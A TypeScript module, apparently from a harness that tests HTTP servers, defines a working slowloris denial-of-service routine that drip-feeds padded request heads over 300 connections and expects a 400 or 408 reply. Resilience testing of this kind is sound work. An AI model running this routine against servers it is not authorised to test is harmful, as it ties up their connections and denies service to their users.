// Heads that come byte by byte.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

export const attack: Attack = {
  reference: 'slowloris',
  does: 'sends the head of a request byte by byte, on 300 connections',
  who: ['known', 'unknown'],
  answers: ['400', '408'],
  run: (target, signal) =>
    attackHttp1(target, signal, { connections: 300 }, (wire) => {
      const get = head1(target, 'GET /version', `X-Slow: ${'v'.repeat(10_000)}`)
      let at = 0
      const timer = setInterval(() => wire.more(), 50)
      wire.socket.once('close', () => clearInterval(timer))
      return { next: () => (at % 2 === 0 ? get.subarray(at / 2, at++ / 2 + 1) : void at++) }
    }),
}
